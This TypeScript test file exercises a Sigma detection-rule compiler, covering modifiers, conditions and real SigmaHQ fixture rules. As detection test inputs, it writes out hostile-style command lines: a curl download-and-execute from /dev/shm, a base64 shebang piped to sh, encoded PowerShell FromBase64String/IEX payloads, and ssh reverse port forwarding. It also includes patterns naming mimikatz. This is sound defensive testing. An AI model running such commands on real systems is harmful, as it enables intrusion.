import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { VigilEvent } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { makeEvent } from '../internal/makeEvent';
import { compileSigmaRule } from './compileSigmaRule';
import { loadSigmaRules } from './loadSigmaRules';

const FIXTURES = join(import.meta.dirname, '../../fixtures/sigma');
const fixture = (name: string) => compileSigmaRule(parse(readFileSync(join(FIXTURES, name), 'utf8')));

/** A one-selection rule over a generic logsource (unmapped fields read details.<Field>). */
const rule = (selection: unknown, extra: Record<string, unknown> = {}, options = {}) =>
  compileSigmaRule({ title: 't', id: 'r1', logsource: { product: 'test' }, detection: { selection, condition: 'selection', ...extra } }, options);
const ev = (details: Record<string, unknown>, more: Partial<VigilEvent> = {}) => makeEvent({ details, ...more });

describe('Sigma value matching (spec examples per modifier)', () => {
  it('plain values: case-insensitive equality, wildcards * and ?, escapes', () => {
    // A backslash before a wildcard escapes it, so a path separator before `*` is written `\\*`.
    const r = rule({ Image: ['C:\\Windows\\\\*\\cmd.exe', 'a?c', 'lit\\*eral'] });
    expect(r.test(ev({ Image: 'c:\\windows\\system32\\CMD.EXE' }))).toBe(true);
    expect(r.test(ev({ Image: 'C:\\Windows\\cmd.exe.bak' }))).toBe(false);
    expect(r.test(ev({ Image: 'abc' }))).toBe(true);
    expect(r.test(ev({ Image: 'abbc' }))).toBe(false);
    expect(r.test(ev({ Image: 'lit*eral' }))).toBe(true);
    expect(r.test(ev({ Image: 'litXXeral' }))).toBe(false);
  });

  it('reads an unmapped field as written, then as lowercaseKeys writes it', () => {
    const r = rule({ ParentUser: 'mallory', 'Target|contains': 'etc' });
    expect(r.test(ev({ ParentUser: 'mallory', Target: '/etc/shadow' }))).toBe(true);
    expect(r.test(ev({ parentuser: 'mallory', target: '/etc/shadow' }))).toBe(true);
    expect(r.test(ev({ parentuser: 'eve', target: '/etc/shadow' }))).toBe(false);
    // The key as written wins when both are there.
    expect(r.test(ev({ ParentUser: 'eve', parentuser: 'mallory', target: '/etc/shadow' }))).toBe(false);
    expect(rule({ 'ParentUser|exists': true }).test(ev({ parentuser: 'x' }))).toBe(true);
  });

  it('field names and values with quotes, backslashes and line separators stay data', () => {
    const name = 'we"ird\\fi`eld${x}';
    const value = 'va"l\u2028ue`);process.exit(1);//';
    const r = rule({ [name]: value, [`${name}|startswith`]: 'VA"L' });
    expect(r.test(ev({ [name]: value }))).toBe(true);
    expect(r.test(ev({ [name]: 'other' }))).toBe(false);
  });

  it('maps are AND, lists of values are OR, lists of maps are OR', () => {
    const and = rule({ A: 'x', B: ['y', 'z'] });
    expect(and.test(ev({ A: 'x', B: 'z' }))).toBe(true);
    expect(and.test(ev({ A: 'x', B: 'w' }))).toBe(false);
    const or = rule([{ A: 'x' }, { B: 'y' }]);
    expect(or.test(ev({ B: 'y' }))).toBe(true);
    expect(or.test(ev({ A: 'y' }))).toBe(false);
  });

  it('contains, startswith, endswith and all', () => {
    expect(rule({ 'C|contains': 'mimi' }).test(ev({ C: 'run MIMIkatz' }))).toBe(true);
    expect(rule({ 'C|startswith': 'run' }).test(ev({ C: 'xrun' }))).toBe(false);
    expect(rule({ 'C|endswith': '.exe' }).test(ev({ C: 'a.EXE' }))).toBe(true);
    const all = rule({ 'C|contains|all': ['-nop', 'hidden'] });
    expect(all.test(ev({ C: 'ps -nop -w hidden' }))).toBe(true);
    expect(all.test(ev({ C: 'ps -nop' }))).toBe(false);
  });

  it('cased makes matching case-sensitive', () => {
    const r = rule({ 'C|cased': 'Evil' });
    expect(r.test(ev({ C: 'Evil' }))).toBe(true);
    expect(r.test(ev({ C: 'evil' }))).toBe(false);
  });

  it('re with i, m and s sub-modifiers (case-sensitive by default)', () => {
    expect(rule({ 'C|re': '^ab+c$' }).test(ev({ C: 'abbbc' }))).toBe(true);
    expect(rule({ 'C|re': '^ab+c$' }).test(ev({ C: 'ABBC' }))).toBe(false);
    expect(rule({ 'C|re|i': '^ab+c$' }).test(ev({ C: 'ABBC' }))).toBe(true);
    expect(rule({ 'C|re|m': '^b$' }).test(ev({ C: 'a\nb' }))).toBe(true);
    expect(rule({ 'C|re': '^b$' }).test(ev({ C: 'a\nb' }))).toBe(false);
    expect(rule({ 'C|re|s': 'a.b' }).test(ev({ C: 'a\nb' }))).toBe(true);
    expect(rule({ 'C|re': 'a.b' }).test(ev({ C: 'a\nb' }))).toBe(false);
  });

  it('cidr on IPv4 and IPv6', () => {
    const r = rule({ 'SourceIp|cidr': ['10.0.0.0/8', '2001:db8::/32'] });
    expect(r.test(ev({ sourceipaddress: '10.2.3.4' }))).toBe(true);
    expect(r.test(ev({ sourceipaddress: '11.2.3.4' }))).toBe(false);
    expect(r.test(ev({ sourceipaddress: '2001:db8::1' }))).toBe(true);
    expect(r.test(ev({ sourceipaddress: 'not-an-ip' }))).toBe(false);
  });

  it('base64 and base64offset (checked against the encodings SigmaHQ publishes for ::FromBase64String)', () => {
    expect(rule({ 'C|base64': 'whoami' }).test(ev({ C: Buffer.from('whoami').toString('base64') }))).toBe(true);
    expect(rule({ 'C|base64|contains': 'http' }).test(ev({ C: `x ${Buffer.from('http').toString('base64')} y` }))).toBe(true);
    const off = rule({ 'C|base64offset|contains': '::FromBase64String' });
    for (const encoded of ['OjpGcm9tQmFzZTY0U3RyaW5n', 'o6RnJvbUJhc2U2NFN0cmluZ', '6OkZyb21CYXNlNjRTdHJpbm']) {
      expect(off.test(ev({ C: `powershell -e AAAA${encoded}BBBB` }))).toBe(true);
    }
    // Real encodings of the text at each alignment, inside a longer payload.
    for (const prefix of ['', 'x', 'xy']) {
      const payload = Buffer.from(`${prefix}[Convert]::FromBase64String(s)`).toString('base64');
      expect(off.test(ev({ C: payload }))).toBe(true);
    }
    expect(off.test(ev({ C: Buffer.from('FromBase32String').toString('base64') }))).toBe(false);
  });

  it('utf16le/wide/utf16be/utf16 with base64offset (SigmaHQ UTF-16 LE strings)', () => {
    const wide = rule({ 'C|wide|base64offset|contains': '::FromBase64String' });
    for (const encoded of ['OgA6AEYAcgBvAG0AQgBhAHMAZQA2ADQAUwB0AHIAaQBuAGcA', 'oAOgBGAHIAbwBtAEIAYQBzAGUANgA0AFMAdAByAGkAbgBnA', '6ADoARgByAG8AbQBCAGEAcwBlADYANABTAHQAcgBpAG4AZw']) {
      expect(wide.test(ev({ C: encoded }))).toBe(true);
    }
    const le = Buffer.from('IEX (New-Object', 'utf16le');
    expect(rule({ 'C|utf16le|base64': 'IEX (New-Object' }).test(ev({ C: le.toString('base64') }))).toBe(true);
    expect(rule({ 'C|utf16be|base64': 'ab' }).test(ev({ C: Buffer.from([0, 0x61, 0, 0x62]).toString('base64') }))).toBe(true);
    expect(rule({ 'C|utf16|base64': 'ab' }).test(ev({ C: Buffer.from([0xff, 0xfe, 0x61, 0, 0x62, 0]).toString('base64') }))).toBe(true);
  });

  it('windash matches -, /, en dash, em dash and horizontal bar', () => {
    const r = rule({ 'C|contains|windash': ' -R ' });
    for (const d of ['-', '/', '\u2013', '\u2014', '\u2015']) expect(r.test(ev({ C: `ssh.exe ${d}R 8080:localhost:80 host` }))).toBe(true);
    expect(r.test(ev({ C: 'ssh.exe +R 8080' }))).toBe(false);
  });

  it('windash makes every permutation over several flags, and leaves dashes inside words alone', () => {
    const r = rule({ 'C|contains|windash': ' -nop -w hidden ' });
    for (const a of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      for (const b of ['-', '/', '\u2013', '\u2014', '\u2015']) expect(r.test(ev({ C: `powershell.exe ${a}nop ${b}w hidden -e x` }))).toBe(true);
    }
    expect(r.test(ev({ C: 'powershell.exe +nop -w hidden ' }))).toBe(false);
    const word = rule({ 'C|windash': 'x-ray' });
    expect(word.test(ev({ C: 'x-ray' }))).toBe(true);
    expect(word.test(ev({ C: 'x/ray' }))).toBe(false);
    expect(() => rule({ 'C|windash': '-a -b -c -d -e -f' })).toThrow(/windash.*6 option dashes/);
  });

  it('neq: the field differs from a string or number (an absent field differs too); all makes it "none of"', () => {
    const r = rule({ 'Account|neq': 'SYSTEM' });
    expect(r.test(ev({ Account: 'alice' }))).toBe(true);
    expect(r.test(ev({ Account: 'system' }))).toBe(false);
    expect(r.test(ev({}))).toBe(true);
    expect(rule({ 'Account|neq|cased': 'SYSTEM' }).test(ev({ Account: 'system' }))).toBe(true);
    const none = rule({ 'Port|neq|all': [80, 443] });
    expect(none.test(ev({ Port: 22 }))).toBe(true);
    expect(none.test(ev({ Port: 443 }))).toBe(false);
    expect(none.test(ev({ Port: '80' }))).toBe(false);
    const ref = rule({ 'Target|fieldref|neq': 'Source' });
    expect(ref.test(ev({ Target: 'a', Source: 'b' }))).toBe(true);
    expect(ref.test(ev({ Target: 'a', Source: 'A' }))).toBe(false);
    expect(() => rule({ 'F|exists|neq': true })).toThrow(/neq/);
  });

  it('time modifiers read the UTC minute, hour, day, ISO week, month or year of a date, alone or with comparisons', () => {
    const at = '2024-12-30T23:05:00.000Z'; // a Monday in ISO week 1 of 2025
    expect(rule({ 'T|hour': 23 }).test(ev({ T: at }))).toBe(true);
    expect(rule({ 'T|hour': 22 }).test(ev({ T: at }))).toBe(false);
    expect(rule({ 'T|minute': 5 }).test(ev({ T: at }))).toBe(true);
    expect(rule({ 'T|day': 30 }).test(ev({ T: at }))).toBe(true);
    expect(rule({ 'T|week': 1 }).test(ev({ T: at }))).toBe(true);
    expect(rule({ 'T|month': 12 }).test(ev({ T: at }))).toBe(true);
    expect(rule({ 'T|year': 2024 }).test(ev({ T: at }))).toBe(true);
    expect(rule({ 'T|week': 53 }).test(ev({ T: '2020-12-31T12:00:00Z' }))).toBe(true);
    // Out of office hours: before 07:00 or from 19:00, on epoch seconds as well as ISO text.
    const night = compileSigmaRule({
      title: 't',
      id: 'r2',
      logsource: { product: 'test' },
      detection: { early: { 'T|hour|lt': 7 }, late: { 'T|hour|gte': 19 }, condition: 'early or late' },
    });
    expect(night.test(ev({ T: '2024-05-01T06:59:59Z' }))).toBe(true);
    expect(night.test(ev({ T: Date.parse('2024-05-01T19:00:00Z') / 1000 }))).toBe(true);
    expect(night.test(ev({ T: '2024-05-01T12:00:00Z' }))).toBe(false);
    expect(night.test(ev({ T: 'not a date' }))).toBe(false);
    expect(rule({ 'T|hour|neq': 12 }).test(ev({ T: '2024-05-01T13:00:00Z' }))).toBe(true);
    expect(() => rule({ 'T|hour|contains': 1 })).toThrow(/hour/);
    expect(() => rule({ 'T|hour': 'noon' })).toThrow(/numbers/);
  });

  it('lt, lte, gt, gte on numbers and numeric strings', () => {
    expect(rule({ 'N|gt': 5 }).test(ev({ N: 6 }))).toBe(true);
    expect(rule({ 'N|gt': 5 }).test(ev({ N: '5' }))).toBe(false);
    expect(rule({ 'N|gte': 5 }).test(ev({ N: '5' }))).toBe(true);
    expect(rule({ 'N|lt': 5 }).test(ev({ N: 4 }))).toBe(true);
    expect(rule({ 'N|lte': 5 }).test(ev({ N: 'five' }))).toBe(false);
  });

  it('exists, null and fieldref', () => {
    expect(rule({ 'X|exists': true }).test(ev({ X: '' }))).toBe(true);
    expect(rule({ 'X|exists': false }).test(ev({}))).toBe(true);
    expect(rule({ 'X|exists': true }).test(ev({}))).toBe(false);
    expect(rule({ X: null }).test(ev({}))).toBe(true);
    expect(rule({ X: null }).test(ev({ X: 'v' }))).toBe(false);
    const ref = rule({ 'TargetUser|fieldref': 'SubjectUser' });
    expect(ref.test(ev({ TargetUser: 'Bob', SubjectUser: 'bob' }))).toBe(true);
    expect(ref.test(ev({ TargetUser: 'bob', SubjectUser: 'alice' }))).toBe(false);
  });

  it('expand fills placeholders from the configuration', () => {
    const r = rule({ 'User|expand': '%admins%' }, {}, { placeholders: { admins: ['root', 'admin'] } });
    expect(r.test(ev({ username: 'ADMIN' }))).toBe(true);
    expect(r.test(ev({ username: 'bob' }))).toBe(false);
    expect(() => rule({ 'User|expand': '%nobody%' })).toThrow(/Sigma rule "t" \(r1\).*placeholder %nobody%/);
  });

  it('keyword lists search the summary (substring, case-insensitive)', () => {
    const r = compileSigmaRule({ title: 'k', logsource: {}, detection: { keywords: ['Failed password', 'session opened'], condition: 'keywords' } });
    expect(r.test(makeEvent({ summary: 'sshd: FAILED PASSWORD for root' }))).toBe(true);
    expect(r.test(makeEvent({ summary: 'Accepted publickey' }))).toBe(false);
  });
});

describe('Sigma conditions', () => {
  const multi = (condition: string) =>
    compileSigmaRule({ title: 'c', logsource: {}, detection: { sel_a: { A: 'a' }, sel_b: { B: 'b' }, filter: { F: 'f' }, _hidden: { H: 'h' }, condition } });
  const e = (d: Record<string, unknown>) => ev(d);
  it('and / or / not and parentheses', () => {
    const r = multi('(sel_a or sel_b) and not filter');
    expect(r.test(e({ B: 'b' }))).toBe(true);
    expect(r.test(e({ B: 'b', F: 'f' }))).toBe(false);
    expect(r.test(e({}))).toBe(false);
  });
  it('1 of / all of with patterns, and them (without _ names)', () => {
    expect(multi('1 of sel_*').test(e({ A: 'a' }))).toBe(true);
    expect(multi('all of sel_*').test(e({ A: 'a' }))).toBe(false);
    expect(multi('all of sel_*').test(e({ A: 'a', B: 'b' }))).toBe(true);
    expect(multi('1 of them').test(e({ H: 'h' }))).toBe(false);
    expect(multi('all of them').test(e({ A: 'a', B: 'b', F: 'f' }))).toBe(true);
  });
  it('refuses what it cannot run, naming the rule and the feature', () => {
    expect(() => multi('sel_a | count() > 5')).toThrow(/Sigma rule "c".*aggregation/);
    expect(() => multi('2 of sel_*')).toThrow(/'2 of'/);
    expect(() => multi('sel_x')).toThrow(/unknown selection 'sel_x'/);
    expect(() => rule({ 'C|base65': 'x' })).toThrow(/Sigma rule "t" \(r1\): modifier 'base65' is not supported/);
    expect(() => rule({ 'C|i': 'x' })).toThrow(/only valid after 're'/);
    expect(() => rule({ 'C|re': '(?<!x' })).toThrow(/does not compile/);
    expect(() => rule({ A: 'x' }, { timeframe: '5m' })).toThrow(/timeframe/);
  });
});

describe('real SigmaHQ rules (fixtures)', () => {
  it('auditd: Creation Of An User Account', () => {
    const r = fixture('lnx_auditd_create_account.yml');
    expect(r).toMatchObject({ id: '759d0d51-bc99-4b5e-9add-8f5b2c8e7512', severity: 'WARNING' });
    const base = { category: 'auditd', hostname: 'web1' };
    expect(r.test(makeEvent({ ...base, details: { type: 'SYSCALL', exe: '/usr/sbin/useradd', syscall: 'execve' } }))).toBe(true);
    expect(r.test(makeEvent({ ...base, details: { type: 'SYSCALL', exe: '/usr/sbin/userdel' } }))).toBe(false);
    // Logsource condition: not an auditd event.
    expect(r.test(makeEvent({ category: 'syslog', details: { type: 'SYSCALL', exe: '/usr/sbin/useradd' } }))).toBe(false);
  });

  it('linux process_creation: curl/wget download and execute (all of selection_*)', () => {
    const r = fixture('proc_creation_lnx_curl_wget_exec_tmp.yml');
    const exec = (cmdline: string) => makeEvent({ category: 'auditd', details: { syscall: 'execve', exe: '/bin/sh', cmdline } });
    expect(r.test(exec('/bin/sh -c /usr/bin/curl -s http://x/a.sh -o /dev/shm/a.sh && sh /dev/shm/a.sh'))).toBe(true);
    expect(r.test(exec('/usr/bin/curl -o /tmp/a http://x'))).toBe(false);
  });

  it('linux process_creation: base64 shebang', () => {
    const r = fixture('proc_creation_lnx_base64_shebang_cli.yml');
    const cmd = `echo ${Buffer.from('#!/bin/bash\nid').toString('base64')} | base64 -d | sh`;
    expect(r.test(makeEvent({ category: 'auditd', details: { cmdline: cmd } }))).toBe(true);
    expect(r.test(makeEvent({ category: 'auditd', details: { cmdline: 'echo aGVsbG8= | base64 -d' } }))).toBe(false);
  });

  it('windows process_creation with windash: port forwarding via ssh.exe', () => {
    const r = fixture('proc_creation_win_ssh_port_forward.yml');
    const proc = (cmdline: string, exe = 'C:\\Windows\\System32\\OpenSSH\\ssh.exe') => makeEvent({ details: { exe, cmdline } });
    expect(r.test(proc('ssh.exe -R 8080:127.0.0.1:80 user@host'))).toBe(true);
    expect(r.test(proc('ssh.exe /R 8080:127.0.0.1:80 user@host'))).toBe(true);
    expect(r.test(proc('ssh.exe \u2013R 8080:127.0.0.1:80 user@host'))).toBe(true);
    expect(r.test(proc('ssh.exe -L 8080:127.0.0.1:80 user@host'))).toBe(false);
    expect(r.test(proc('scp.exe -R x', 'C:\\scp.exe'))).toBe(false);
  });

  it('windows process_creation with base64offset: FromBase64String', () => {
    const r = fixture('proc_creation_win_powershell_base64_frombase64string.yml');
    const payload = Buffer.from('$a=[System.Convert]::FromBase64String($b)').toString('base64');
    expect(r.test(makeEvent({ details: { cmdline: `powershell.exe -e ${payload}` } }))).toBe(true);
    const wide = Buffer.from('$a=[Convert]::FromBase64String($b)', 'utf16le').toString('base64');
    expect(r.test(makeEvent({ details: { cmdline: `powershell.exe -enc ${wide}` } }))).toBe(true);
    expect(r.test(makeEvent({ details: { cmdline: 'powershell.exe -c Get-Date' } }))).toBe(false);
  });

  it('loads a directory, reporting every broken rule at once', () => {
    const set = loadSigmaRules(FIXTURES);
    expect(set.rules.map((r) => r.title)).toHaveLength(5);
  });
});
